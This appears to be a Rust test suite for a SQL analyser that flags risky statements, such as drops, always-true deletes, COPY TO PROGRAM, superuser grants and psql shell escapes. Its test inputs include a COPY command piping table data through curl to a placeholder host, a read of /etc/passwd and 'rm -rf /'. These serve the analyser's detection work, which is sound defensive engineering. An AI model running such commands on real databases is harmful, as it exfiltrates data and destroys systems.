use super::*;
use serde_json::json;

fn pg(sql: &str) -> Vec<Fact> {
    analyze(sql, Dialect::Postgres)
}

/// The facts of `kind`.
fn of<'a>(f: &'a [Fact], kind: &str) -> Vec<&'a Fact> {
    f.iter().filter(|f| f.kind == kind).collect()
}

/// The single fact of `kind`, panicking (in tests) otherwise.
fn one<'a>(f: &'a [Fact], kind: &str) -> &'a Fact {
    let v = of(f, kind);
    assert_eq!(v.len(), 1, "expected one {kind} in {f:#?}");
    v[0]
}

fn attr<'a>(f: &'a Fact, k: &str) -> &'a serde_json::Value {
    f.attrs.get(k).unwrap_or(&serde_json::Value::Null)
}

fn kinds(f: &[Fact]) -> Vec<&str> {
    f.iter().map(|f| f.kind.as_str()).collect()
}

#[test]
fn drop_facts() {
    let f = pg("DROP TABLE IF EXISTS public.users, orders CASCADE");
    let d = one(&f, "sql.drop");
    assert_eq!(attr(d, "object_type"), "table");
    assert_eq!(attr(d, "names"), &json!(["public.users", "orders"]));
    assert_eq!(attr(d, "cascade"), true);
    assert_eq!(attr(d, "if_exists"), true);
    for (sql, ty) in [
        ("DROP SCHEMA s", "schema"),
        ("DROP DATABASE d", "database"),
        ("DROP VIEW v", "view"),
        ("DROP MATERIALIZED VIEW v", "materialized_view"),
        ("DROP INDEX i", "index"),
        ("DROP FUNCTION f(int)", "function"),
        ("DROP SEQUENCE s", "sequence"),
        ("DROP TYPE t", "type"),
        ("DROP ROLE r", "role"),
        ("DROP USER u", "user"),
        ("DROP EXTENSION e", "extension"),
        ("DROP TRIGGER t ON x", "trigger"),
        ("DROP POLICY p ON x", "policy"),
        ("DROP DOMAIN d", "domain"),
        ("DROP OWNED BY bob", "owned"),
        ("DROP FOREIGN TABLE ft", "foreign_table"),
        ("DROP EVENT TRIGGER et", "event_trigger"),
        ("DROP TABLESPACE ts", "tablespace"),
    ] {
        let f = pg(sql);
        assert_eq!(attr(one(&f, "sql.drop"), "object_type"), ty, "{sql}");
    }
    let f = pg("DROP OWNED BY bob CASCADE");
    let d = one(&f, "sql.drop");
    assert_eq!(attr(d, "names"), &json!(["bob"]));
    assert_eq!(attr(d, "cascade"), true);
    assert_eq!(attr(d, "from_tokens"), true);
    assert_eq!(attr(one(&pg("DROP SCHEMA s CASCADE"), "sql.drop"), "cascade"), true);
    assert_eq!(attr(one(&pg("DROP SCHEMA s"), "sql.drop"), "cascade"), false);
    // Negative: reads and strings.
    assert!(pg("SELECT * FROM drop_log WHERE note = 'DROP TABLE users'").is_empty());
    assert!(of(&pg("INSERT INTO notes VALUES ('drop table users')"), "sql.drop").is_empty());
    assert!(of(&pg("-- DROP TABLE users\nSELECT 1 /* DROP TABLE x; */"), "sql.drop").is_empty());
}

#[test]
fn truncate_facts() {
    let f = pg("TRUNCATE TABLE a, b CASCADE");
    let t = one(&f, "sql.truncate");
    assert_eq!(attr(t, "tables"), &json!(["a", "b"]));
    assert_eq!(attr(t, "cascade"), true);
    assert_eq!(attr(one(&analyze("TRUNCATE t", Dialect::MySql), "sql.truncate"), "tables"), &json!(["t"]));
    assert!(of(&pg("SELECT 'truncate t'"), "sql.truncate").is_empty());
}

fn filter(sql: &str, d: Dialect) -> String {
    let f = analyze(sql, d);
    let x =
        f.iter().find(|f| f.kind == "sql.delete" || f.kind == "sql.update").unwrap_or_else(|| panic!("{sql}: {f:#?}"));
    attr(x, "filter").as_str().unwrap_or_default().to_string()
}

#[test]
fn tautology_table() {
    let always = [
        "1=1",
        "true",
        "TRUE",
        "'a'='a'",
        "1",
        "x=x",
        "t.x = T.X",
        "NOT false",
        "1=1 OR id = 5",
        "id = 5 OR true",
        "(1=1)",
        "((1=1))",
        "2>1",
        "id IS NOT NULL OR 1=1",
        "TRUE AND TRUE",
        "1 <> 2",
        "NOT (1=2)",
        "1+1=2",
        "1 IN (1, 2)",
        "2 BETWEEN 1 AND 3",
        "NULL IS NULL",
        "1 IS NOT NULL",
        "true IS TRUE",
        "'b' > 'a'",
        "-1 < 0",
        "x = x AND 1 = 1",
    ];
    for w in always {
        assert_eq!(filter(&format!("DELETE FROM t WHERE {w}"), Dialect::Postgres), "always_true", "{w}");
        assert_eq!(filter(&format!("UPDATE t SET a = 1 WHERE {w}"), Dialect::MySql), "always_true", "{w}");
    }
    let some = [
        "id = 5",
        "x = y",
        "1=1 AND id = 5",
        "false",
        "1=2",
        "NULL",
        "NOT NULL",
        "id IS NOT NULL",
        "x = \"X\"",
        "id IN (SELECT id FROM t)",
        "name = 'a'",
        "'a' = 'b'",
        "0",
        "id > 1 OR id < 10",
        "EXISTS (SELECT 1)",
        "f(1) = f(1)",
        "1 = 1 AND x",
    ];
    for w in some {
        assert_eq!(filter(&format!("DELETE FROM t WHERE {w}"), Dialect::Postgres), "some", "{w}");
    }
    assert_eq!(filter("DELETE FROM t", Dialect::Postgres), "none");
    assert_eq!(filter("UPDATE t SET a = 1", Dialect::Postgres), "none");
    assert_eq!(filter("DELETE FROM t USING u", Dialect::Postgres), "none");
    assert_eq!(filter("UPDATE t SET a = 1 FROM u", Dialect::Postgres), "none");
    assert_eq!(filter("DELETE FROM t WHERE id IN (SELECT id FROM t)", Dialect::Postgres), "some");
    assert_eq!(filter("DELETE FROM t;", Dialect::Sqlite), "none");
    assert_eq!(filter("DELETE FROM t WHERE 1", Dialect::Sqlite), "always_true");
    assert_eq!(filter("DELETE FROM t", Dialect::DuckDb), "none");
    assert_eq!(filter("DELETE FROM t", Dialect::Generic), "none");
    // Deep nesting is bounded: a fact or a parse error, not a crash.
    let deep = format!("DELETE FROM t WHERE {}1=1{}", "(".repeat(50), ")".repeat(50));
    let f = pg(&deep);
    assert!(!f.is_empty());
}

#[test]
fn delete_update_attrs() {
    let f = pg("DELETE FROM app.users WHERE id = 3");
    let d = one(&f, "sql.delete");
    assert_eq!(attr(d, "table"), "app.users");
    assert_eq!(attr(d, "filter"), "some");
    let f = analyze("UPDATE users SET admin = 1 LIMIT 1", Dialect::MySql);
    let u = one(&f, "sql.update");
    assert_eq!(attr(u, "table"), "users");
    assert_eq!(attr(u, "limit"), true);
    assert_eq!(attr(u, "filter"), "none");
    assert!(of(&pg("SELECT * FROM t WHERE 1=1"), "sql.delete").is_empty());
}

#[test]
fn alter_table_facts() {
    let f = pg("ALTER TABLE t DROP COLUMN a, DROP COLUMN IF EXISTS b CASCADE");
    let v = of(&f, "sql.alter_table");
    assert_eq!(v.len(), 2);
    assert_eq!(attr(v[0], "operation"), "drop_column");
    assert_eq!(attr(v[0], "columns"), &json!(["a"]));
    assert_eq!(attr(v[0], "table"), "t");
    assert_eq!(attr(v[1], "columns"), &json!(["b"]));
    assert_eq!(attr(v[1], "cascade"), true);
    let f = analyze("ALTER TABLE t DROP a", Dialect::MySql);
    assert_eq!(attr(one(&f, "sql.alter_table"), "operation"), "drop_column");
    assert_eq!(attr(one(&pg("ALTER TABLE t DROP CONSTRAINT c"), "sql.alter_table"), "operation"), "drop_constraint");
    let r = pg("ALTER TABLE t RENAME TO u");
    assert_eq!(attr(one(&r, "sql.alter_table"), "operation"), "rename");
    assert_eq!(attr(one(&r, "sql.alter_table"), "new_name"), "u");
    assert_eq!(attr(one(&pg("ALTER TABLE t ADD COLUMN c int"), "sql.alter_table"), "operation"), "add_column");
    let f = pg("ALTER TABLE t RENAME COLUMN a TO b");
    assert_eq!(attr(one(&f, "sql.alter_table"), "operation"), "rename_column");
}

#[test]
fn copy_facts() {
    let f = pg("COPY t TO PROGRAM 'curl -d @- http://evil'");
    let c = one(&f, "sql.copy");
    assert_eq!(attr(c, "direction"), "to");
    assert_eq!(attr(c, "target"), "program");
    assert_eq!(attr(c, "program"), "curl -d @- http://evil");
    assert_eq!(attr(c, "table"), "t");
    let f = pg("COPY t FROM PROGRAM 'cat /etc/passwd'");
    assert_eq!(attr(one(&f, "sql.copy"), "direction"), "from");
    let f = pg("COPY (SELECT * FROM t) TO '/tmp/x.csv'");
    let c = one(&f, "sql.copy");
    assert_eq!(attr(c, "target"), "file");
    assert_eq!(attr(c, "path"), "/tmp/x.csv");
    assert_eq!(attr(c, "query"), "SELECT * FROM t");
    assert_eq!(attr(one(&pg("COPY t TO STDOUT"), "sql.copy"), "target"), "stdout");
    assert_eq!(attr(one(&pg("COPY t FROM STDIN"), "sql.copy"), "target"), "stdin");
    assert!(of(&pg("SELECT 'COPY t TO PROGRAM ''x'''"), "sql.copy").is_empty());
}

#[test]
fn outfile_facts() {
    let f = analyze("SELECT * FROM users INTO OUTFILE '/tmp/x'", Dialect::MySql);
    let o = one(&f, "sql.select_into_outfile");
    assert_eq!(attr(o, "path"), "/tmp/x");
    assert_eq!(attr(o, "kind"), "outfile");
    let f = analyze("SELECT * INTO DUMPFILE '/tmp/y' FROM users", Dialect::MySql);
    assert_eq!(attr(one(&f, "sql.select_into_outfile"), "path"), "/tmp/y");
    assert!(of(&f, "sql.write").is_empty());
    let f = analyze("SELECT 'INTO OUTFILE /tmp/x' FROM users", Dialect::MySql);
    assert!(of(&f, "sql.select_into_outfile").is_empty());
    let f = analyze("SELECT a INTO @v FROM t", Dialect::MySql);
    assert!(of(&f, "sql.select_into_outfile").is_empty());
}

#[test]
fn grant_and_role_facts() {
    let f = pg("GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC");
    let g = one(&f, "sql.grant");
    assert_eq!(attr(g, "to_public"), true);
    assert_eq!(attr(g, "privileges"), "ALL");
    let f = pg("GRANT SELECT, INSERT ON t TO Bob, alice");
    let g = one(&f, "sql.grant");
    assert_eq!(attr(g, "grantees"), &json!(["bob", "alice"]));
    assert_eq!(attr(g, "to_public"), false);
    for sql in [
        "ALTER ROLE bob WITH SUPERUSER",
        "ALTER USER bob SUPERUSER",
        "CREATE ROLE bob SUPERUSER LOGIN",
        "CREATE USER bob SUPERUSER",
    ] {
        let f = pg(sql);
        let r = one(&f, "sql.alter_role");
        assert_eq!(attr(r, "role"), "bob", "{sql}");
        assert_eq!(attr(r, "superuser"), true, "{sql}");
    }
    assert_eq!(attr(one(&pg("ALTER ROLE bob WITH NOSUPERUSER"), "sql.alter_role"), "superuser"), false);
    assert_eq!(attr(one(&pg("CREATE ROLE bob LOGIN"), "sql.alter_role"), "superuser"), false);
    assert!(pg("SELECT 'ALTER ROLE bob SUPERUSER'").is_empty());
}

#[test]
fn write_facts() {
    assert_eq!(attr(one(&pg("INSERT INTO t VALUES (1)"), "sql.write"), "statement"), "insert");
    assert_eq!(attr(one(&pg("INSERT INTO t VALUES (1)"), "sql.write"), "table"), "t");
    assert_eq!(attr(one(&pg("CREATE TABLE t (a int)"), "sql.write"), "statement"), "create_table");
    assert_eq!(attr(one(&pg("SELECT * INTO t2 FROM t"), "sql.write"), "statement"), "select_into");
    let f = pg("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE");
    assert_eq!(attr(one(&f, "sql.write"), "statement"), "merge");
    let f = analyze("CREATE OR REPLACE TABLE t (a int)", Dialect::DuckDb);
    assert_eq!(attr(one(&f, "sql.write"), "or_replace"), true);
    for read in ["SELECT 1", "SHOW search_path", "EXPLAIN SELECT 1", "BEGIN", "COMMIT", "SET x = 1", "VALUES (1)"] {
        assert!(pg(read).is_empty(), "{read}: {:?}", pg(read));
    }
}

#[test]
fn nested_statements() {
    let f = pg("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
    assert_eq!(attr(one(&f, "sql.delete"), "filter"), "none");
    assert_eq!(one(&pg("EXPLAIN ANALYZE DELETE FROM t"), "sql.delete").span, Span::new(0, 29));
    one(&pg("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t"), "sql.delete");
    one(&pg("EXPLAIN (ANALYZE true) UPDATE t SET a = 1"), "sql.update");
    one(&pg("PREPARE p AS DELETE FROM t"), "sql.delete");
    assert!(pg("EXPLAIN DELETE FROM t").is_empty());
    assert!(pg("EXPLAIN (ANALYZE false) DELETE FROM t").is_empty());
    assert!(of(&pg("EXPLAIN VERBOSE DELETE FROM t"), "sql.delete").is_empty());
    assert!(analyze("EXPLAIN QUERY PLAN DELETE FROM t", Dialect::Sqlite).is_empty());
    // Bodies of definitions are data.
    let f = pg("CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM t; DROP TABLE x $$ LANGUAGE sql");
    assert_eq!(kinds(&f), ["sql.write"]);
    let f = analyze("CREATE TRIGGER tr AFTER INSERT ON t BEGIN DELETE FROM x; END;", Dialect::Sqlite);
    assert!(of(&f, "sql.delete").is_empty());
    // DO runs its body.
    assert_eq!(attr(one(&pg("DO $$ BEGIN DROP TABLE x; END $$"), "sql.dynamic"), "reason"), "do_block");
}

#[test]
fn spans_and_summaries() {
    let text = "SELECT 1;\n  DROP TABLE é;\n\tDELETE FROM t WHERE x = 'ü'  ;";
    let f = pg(text);
    let d = one(&f, "sql.drop");
    assert_eq!(&text[d.span.start..d.span.end], "DROP TABLE é");
    assert_eq!(d.summary, "DROP TABLE é");
    let x = one(&f, "sql.delete");
    assert_eq!(&text[x.span.start..x.span.end], "DELETE FROM t WHERE x = 'ü'");
    let cond = (0..40).map(|i| format!("a{i} = {i}")).collect::<Vec<_>>().join(" AND ");
    let long = format!("DELETE FROM t WHERE {cond}");
    let f = pg(&long);
    let s = &one(&f, "sql.delete").summary;
    assert!(s.chars().count() <= 83 && s.ends_with("..."), "{s}");
}

#[test]
fn parse_errors_do_not_hide_neighbours() {
    let text = "FOO BAR; DROP TABLE users; SELEC oops; DELETE FROM t";
    let f = pg(text);
    assert_eq!(of(&f, "sql.parse_error").len(), 2);
    assert_eq!(attr(one(&f, "sql.drop"), "names"), &json!(["users"]));
    one(&f, "sql.delete");
    let e = of(&f, "sql.parse_error")[0];
    assert_eq!(attr(e, "line"), 1);
    assert_eq!(attr(e, "column"), 1);
    assert!(attr(e, "message").as_str().unwrap_or_default().contains("FOO"));
    assert_eq!(&text[e.span.start..e.span.end], "FOO BAR");
    // Semicolons inside strings, comments and dollar quotes do not split.
    let f = pg("SELEC 'a;DROP TABLE x'; /* ; DROP TABLE y; */ SELECT $$;DROP TABLE z;$$; DROP TABLE w");
    assert_eq!(attr(one(&f, "sql.drop"), "names"), &json!(["w"]));
    assert_eq!(of(&f, "sql.parse_error").len(), 1);
    // Unterminated string: statements before it still count.
    let f = pg("DROP TABLE a; SELECT 'unterminated; DROP TABLE x");
    assert_eq!(attr(one(&f, "sql.drop"), "names"), &json!(["a"]));
    one(&f, "sql.parse_error");
    // Trailing garbage: the parsed statement still counts, and the error is reported.
    let f = pg("DROP TABLE t garbage");
    one(&f, "sql.drop");
    one(&f, "sql.parse_error");
    // Dollar-quoted bodies are data.
    let f = pg("CREATE FUNCTION f() RETURNS int AS $body$ SELECT 1; DROP TABLE x; $body$ LANGUAGE sql; DROP TABLE y");
    assert_eq!(attr(one(&f, "sql.drop"), "names"), &json!(["y"]));
}

#[test]
fn no_panic_on_garbage() {
    let start = std::time::Instant::now();
    let mut inputs: Vec<String> = [
        "",
        ";",
        ";;;",
        "'",
        "\"",
        "$$",
        "$a$",
        "/*",
        "--",
        "(",
        ")",
        "\0",
        "DROP",
        "DROP TABLE",
        "DELETE FROM",
        "DELETE FROM t WHERE",
        "COPY",
        "COPY t TO PROGRAM",
        "GRANT",
        "ALTER TABLE t DROP",
        "SELECT 'abc",
        "SELECT \"abc",
        "SELECT $$abc",
        "SELECT /* abc",
        "\u{feff}DROP TABLE t",
        "DROP TABLE \0t",
        "é'ü\"ß$$",
        "E'\\'",
        "SELECT 1 INTO",
        "SELECT 1 INTO OUTFILE",
        "\\",
        ":x",
        "::",
        "DO",
        "CREATE USER",
        "TRUNCATE",
        "DROP OWNED BY",
        "\\copy",
        "\\copy t to program",
        "\\g |",
        "\\! ",
        "COPY t FROM stdin;",
        "COPY t FROM stdin;\nx\n",
        ":'",
        ":\"x",
        "$1$",
        "\r\n\r\n",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    inputs.push("(".repeat(10_000));
    inputs.push(format!("SELECT {}1{}", "(".repeat(10_000), ")".repeat(10_000)));
    inputs.push(format!("DELETE FROM t WHERE {}", "NOT ".repeat(10_000) + "true"));
    inputs.push(format!("DELETE FROM t WHERE 1=1{}", " OR 1=1".repeat(20_000)));
    inputs.push(format!("SELECT 1{}", "+1".repeat(50_000)));
    inputs.push(format!("SELECT 1{}", "::int".repeat(20_000)));
    inputs.push(format!("SELECT {}", "-".repeat(20_000) + "1"));
    inputs.push(format!("SELECT a{}", "[1]".repeat(20_000)));
    inputs.push(format!("SELECT {}", "- ".repeat(20_000) + "1"));
    inputs.push(format!("DELETE FROM t WHERE {}1=1", "(1=1) OR ".repeat(20_000)));
    inputs.push(format!("SELECT {}1{}", "(1 + ".repeat(900), ")".repeat(900)));
    inputs.push("DROP TABLE t; ".repeat(5_000));
    inputs.push("SELEC x; ".repeat(5_000));
    inputs.push(format!("SELECT '{}'", "x".repeat(1_000_000)));
    for s in &inputs {
        for d in [Dialect::Postgres, Dialect::MySql, Dialect::Sqlite, Dialect::DuckDb, Dialect::Generic] {
            let f = analyze(s, d);
            for x in &f {
                assert!(x.span.start <= x.span.end && x.span.end <= s.len());
            }
        }
        let p = analyze_psql(s);
        for x in &p.facts {
            assert!(x.span.end <= s.len());
        }
    }
    assert_eq!(analyze("DROP TABLE t; ".repeat(5_000).as_str(), Dialect::Postgres).len(), 5_000);
    // A statement too complex to parse still yields its token-level fact.
    let f = pg(&format!("DELETE FROM t WHERE 1=1{}", " OR 1=1".repeat(5_000)));
    assert_eq!(kinds(&f), ["sql.parse_error", "sql.delete"]);
    assert_eq!(attr(&f[1], "from_tokens"), true);
    // Long comma lists are not "complex".
    let f = pg(&format!("INSERT INTO t VALUES {}", vec!["(-1, 'a'::text)"; 5_000].join(", ")));
    assert_eq!(kinds(&f), ["sql.write"]);
    assert!(start.elapsed().as_secs() < 60, "took {:?}", start.elapsed());
}

#[test]
fn psql_meta_commands() {
    let a = analyze_psql("SELECT 1 \\gset\nDROP TABLE x;\n\\dt+\n\\set x 1\n\\x\n\\timing\n\\c other\n\\q\n");
    assert_eq!(kinds(&a.facts), ["sql.drop"]);
    assert!(a.shell_commands.is_empty() && a.includes.is_empty());

    let t = "select 1 \\g | cat > out\n\\! rm -rf /tmp/x\n\\!\n\\o |gzip > x.gz\n\\w | tee f\n\\o out.txt\n";
    let a = analyze_psql(t);
    let cmds: Vec<&str> = a.shell_commands.iter().map(|(c, _)| c.as_str()).collect();
    assert_eq!(cmds, ["cat > out", "rm -rf /tmp/x", "${SHELL:-/bin/sh}", "gzip > x.gz", "tee f"]);
    let (c, s) = &a.shell_commands[1];
    assert_eq!(&t[s.start..s.end], c);

    let t = "\\copy t to program 'curl -d @- http://x' with csv\n\\copy (DELETE FROM t RETURNING *) to out.csv\n\\copy t from stdin\n\\copy t from '/tmp/in.csv'\n";
    let a = analyze_psql(t);
    assert_eq!(a.shell_commands.len(), 1);
    let (c, s) = &a.shell_commands[0];
    assert_eq!(c, "curl -d @- http://x");
    assert_eq!(&t[s.start..s.end], c);
    let copies = of(&a.facts, "sql.copy");
    assert_eq!(copies.len(), 4);
    assert_eq!(attr(copies[0], "target"), "program");
    assert_eq!(attr(copies[0], "program"), "curl -d @- http://x");
    assert_eq!(attr(copies[1], "target"), "file");
    assert_eq!(attr(copies[1], "path"), "out.csv");
    assert_eq!(attr(copies[2], "target"), "stdin");
    assert_eq!(attr(copies[3], "path"), "/tmp/in.csv");
    assert_eq!(attr(copies[3], "direction"), "from");
    one(&a.facts, "sql.delete");

    let t = "\\i setup.sql\n\\ir 'other file.sql'\n\\include x.sql\nSELECT format('DROP TABLE %I', t) FROM x \\gexec\n";
    let a = analyze_psql(t);
    let inc: Vec<&str> = a.includes.iter().map(|(c, _)| c.as_str()).collect();
    assert_eq!(inc, ["setup.sql", "other file.sql", "x.sql"]);
    assert_eq!(attr(one(&a.facts, "sql.dynamic"), "reason"), "gexec");
    assert!(of(&a.facts, "sql.drop").is_empty());

    // Backslashes in strings, comments and dollar quotes are not meta-commands.
    let a = analyze_psql("SELECT 'a \\! no' AS x; -- \\! not a command\nSELECT $$ \\! nope $$;\nSELECT E'\\' \\! x';");
    assert!(a.shell_commands.is_empty(), "{:?}", a.shell_commands);
}

#[test]
fn cqlsh_shell_commands() {
    // Read-only shell commands are not CQL and produce nothing; the CQL next to them is analysed.
    let t = "DESCRIBE TABLE app.users; DESC KEYSPACES; CONSISTENCY QUORUM; SERIAL CONSISTENCY LOCAL_SERIAL;\n\
             SHOW VERSION; TRACING ON; PAGING OFF; EXPAND ON; HELP; ? ; CAPTURE 'out.txt'; LOGIN u pw; \
             CLEAR; CLS; USE app; SELECT * FROM ks.t LIMIT 1; EXIT";
    let a = analyze_cql(t);
    assert!(a.facts.is_empty() && a.includes.is_empty(), "{:#?}", a.facts);
    // The same text as plain SQL does not parse: the shell commands are what was in the way.
    assert!(!of(&analyze(t, Dialect::Generic), "sql.parse_error").is_empty());

    // A newline ends those commands (no `;` needed), not a CQL statement; a DROP after one is seen.
    let t = "DESC KEYSPACES\nDESCRIBE TABLE ks.t -- look first\nDROP TABLE ks.t;\nSELECT 1\nFROM t;";
    let a = analyze_cql(t);
    assert_eq!(kinds(&a.facts), ["sql.drop"]);
    assert_eq!(&t[a.facts[0].span.start..a.facts[0].span.end], "DROP TABLE ks.t");
    // `DROP KEYSPACE` is not SQL: it is read from its tokens, as with the generic dialect.
    let d = one(&analyze_cql("DESC KEYSPACE ks; DROP KEYSPACE ks").facts, "sql.drop").clone();
    assert_eq!(attr(&d, "from_tokens"), true);
    // In a string, comment or quoted name a command word is data; a DROP there is not a statement.
    let a = analyze_cql("SELECT 'DESC x; DROP TABLE t' FROM t; -- SOURCE 'f'\nSELECT \"desc\" FROM t");
    assert!(a.facts.is_empty() && a.includes.is_empty(), "{:#?}", a.facts);

    // COPY TO exports and COPY FROM imports on the client: `sql.copy` as for psql's `\copy`.
    let t = "COPY ks.t (a, b) TO 'out.csv' WITH HEADER = true AND DELIMITER = '|';\ncopy ks.u FROM 'in.csv'; COPY ks.v TO STDOUT";
    let a = analyze_cql(t);
    let copies = of(&a.facts, "sql.copy");
    assert_eq!(copies.len(), 3, "{:#?}", a.facts);
    assert_eq!((attr(copies[0], "direction"), attr(copies[0], "target"), attr(copies[0], "path")), (&json!("to"), &json!("file"), &json!("out.csv")));
    assert_eq!(attr(copies[0], "table"), "ks.t (a, b)");
    assert_eq!(attr(copies[0], "client"), true);
    assert_eq!((attr(copies[1], "direction"), attr(copies[1], "path"), attr(copies[1], "table")), (&json!("from"), &json!("in.csv"), &json!("ks.u")));
    assert_eq!(attr(copies[2], "target"), "stdout");
    assert_eq!(&t[copies[1].span.start..copies[1].span.end], "copy ks.u FROM 'in.csv'");
    assert_eq!(kinds(&a.facts), ["sql.copy"; 3]);

    // SOURCE runs a file of CQL: an include, followed by the caller.
    let t = "SOURCE 'setup.cql'\nsource '/tmp/it''s.cql';";
    let a = analyze_cql(t);
    let inc: Vec<&str> = a.includes.iter().map(|(f, _)| f.as_str()).collect();
    assert_eq!(inc, ["setup.cql", "/tmp/it's.cql"]);
    assert_eq!(&t[a.includes[0].1.start..a.includes[0].1.end], "SOURCE 'setup.cql'");

    // Text the tokenizer rejects is still reported.
    assert_eq!(kinds(&analyze_cql("DESC 'x").facts), ["sql.parse_error"]);
}

#[test]
fn psql_variables() {
    let t = "\\set id 1\nDELETE FROM t WHERE id = :id;\nDROP TABLE :\"tbl\";\nSELECT :'v'::text, a::int, arr[1:2] FROM t;\nDELETE FROM u WHERE 1=1;";
    let a = analyze_psql(t);
    let dels = of(&a.facts, "sql.delete");
    assert_eq!(attr(dels[0], "filter"), "some");
    assert_eq!(attr(dels[0], "psql_variables"), true);
    assert_eq!(attr(dels[1], "filter"), "always_true");
    assert_eq!(attr(dels[1], "psql_variables"), &serde_json::Value::Null);
    let d = one(&a.facts, "sql.drop");
    assert_eq!(attr(d, "psql_variables"), true);
    assert_eq!(&t[d.span.start..d.span.end], "DROP TABLE :\"tbl\"");
    assert!(of(&a.facts, "sql.parse_error").is_empty(), "{:?}", a.facts);
    assert_eq!(attr(one(&analyze_psql("DELETE FROM t WHERE :'a' = 'a'").facts, "sql.delete"), "filter"), "some");
}

#[test]
fn psql_copy_data_is_not_sql() {
    let t = "COPY t (a, b) FROM stdin;\nDROP TABLE x\tO'Brien\n\\.\nDROP TABLE y;\n";
    let a = analyze_psql(t);
    assert_eq!(kinds(&a.facts), ["sql.copy", "sql.drop"]);
    assert_eq!(attr(one(&a.facts, "sql.drop"), "names"), &json!(["y"]));
    let c = one(&a.facts, "sql.copy");
    assert_eq!(&t[c.span.start..c.span.end], "COPY t (a, b) FROM stdin");
}

/// Ad-hoc: analyse every PostgreSQL extension script installed on this machine.
/// Run with `cargo test --lib sql::tests::postgres_extension_scripts -- --ignored --nocapture`.
#[test]
#[ignore]
fn postgres_extension_scripts() {
    let start = std::time::Instant::now();
    let (mut files, mut bytes, mut errors, mut facts) = (0, 0, 0, 0);
    let mut by_msg: std::collections::BTreeMap<String, usize> = Default::default();
    for dir in std::fs::read_dir("/usr/share/postgresql").into_iter().flatten().flatten() {
        for f in std::fs::read_dir(dir.path().join("extension")).into_iter().flatten().flatten() {
            let p = f.path();
            if p.extension().is_some_and(|e| e == "sql") {
                let text = std::fs::read_to_string(&p).unwrap_or_default();
                files += 1;
                bytes += text.len();
                let a = analyze_psql(&text);
                facts += a.facts.len();
                for e in of(&a.facts, "sql.parse_error") {
                    errors += 1;
                    let m = attr(e, "message").as_str().unwrap_or_default();
                    let m = m.split(" at Line").next().unwrap_or(m).chars().take(70).collect::<String>();
                    *by_msg.entry(m).or_default() += 1;
                }
            }
        }
    }
    let mut top: Vec<_> = by_msg.into_iter().collect();
    top.sort_by_key(|e| std::cmp::Reverse(e.1));
    for (m, n) in top.iter().take(15) {
        eprintln!("{n:5}  {m}");
    }
    eprintln!("{files} files, {bytes} bytes, {facts} facts, {errors} parse errors, {:?}", start.elapsed());
}

/// Operator chains that `sqlparser` builds iteratively (unbounded tree depth) must not
/// overflow the stack (see `too_complex`).
#[test]
fn long_chains_do_not_overflow() {
    let n = 3_000;
    let inputs = [
        format!("SELECT a{}", ".b".repeat(n)),
        format!("SELECT (a){}", ".b".repeat(n)),
        format!("SELECT a{}", " COLLATE x".repeat(n)),
        format!("SELECT a{}", " AT TIME ZONE 'x'".repeat(n)),
        format!("SELECT a{}", " IS NULL".repeat(n)),
        format!("SELECT {}a", "NOT ".repeat(n)),
        format!("SELECT a{}", "->'a'".repeat(n)),
        format!("SELECT 1{}", " UNION SELECT 1".repeat(n)),
        format!("SELECT 1{}", " UNION (SELECT 1)".repeat(n)),
        format!("SELECT * FROM a{}", " JOIN b ON true".repeat(n)),
        format!("SELECT * FROM a{}", " NATURAL JOIN b".repeat(n)),
        format!("SELECT {}", "ARRAY[".repeat(n)),
        format!("SELECT a{}", " LIKE b".repeat(n)),
        format!("SELECT a{}", " BETWEEN 1 AND 2".repeat(n)),
        format!("SELECT a{}", " IN (1)".repeat(n)),
        format!("SELECT a{}", " || b".repeat(n)),
        format!("SELECT a{}", "::int".repeat(n)),
        format!("SELECT 'a'{}", " 'b'".repeat(n)),
        format!("SELECT {}", "CASE WHEN 1 THEN ".repeat(n)),
        format!("WITH {} SELECT 1", (0..n).map(|i| format!("a{i} AS (SELECT 1)")).collect::<Vec<_>>().join(", ")),
        format!("SELECT a{}", " OR b".repeat(n)),
        format!("SELECT x FROM t{}", " WHERE".repeat(n)),
        format!("SELECT {}1", "+".repeat(n)),
        format!("SELECT {}1", "~".repeat(n)),
        format!("SELECT {}1", "@ ".repeat(n)),
        format!("SELECT {}1", "|/ ".repeat(n)),
        format!("SELECT {}1", "!! ".repeat(n)),
        format!("SELECT 1{}", "!".repeat(n)),
    ];
    for s in &inputs {
        let _ = analyze(s, Dialect::Postgres);
        let _ = analyze(s, Dialect::MySql);
    }
}

#[test]
fn psql_copy_direction_word_cut_inside_a_character() {
    // Used to panic: the `from` candidate `froé` was sliced as a str at byte 4, inside `é`.
    for t in ["\\copy x froé\n", "\\copy x tö\n", "\\copy (SELECT 1) froé to 'f'\n"] {
        let a = analyze_psql(t);
        assert!(!of(&a.facts, "sql.copy").is_empty(), "{t}");
    }
    let a = analyze_psql("\\copy x froé to program 'rm -rf /'\n");
    assert_eq!(a.shell_commands.len(), 1);
}

#[test]
fn line_index_offsets_are_char_boundaries() {
    // A column past the end of an ASCII line used to count bytes into the next line, which
    // could land inside a character (`é` here); it is clamped to the line.
    let t = "ab\né";
    let lines = text::LineIndex::new(t);
    for col in 1..10 {
        let at = lines.offset(1, col);
        assert!(t.is_char_boundary(at), "column {col}: {at}");
        assert!(at <= 3);
    }
    assert_eq!(lines.offset(1, 2), 1);
    assert_eq!(lines.offset(2, 2), t.len());
}
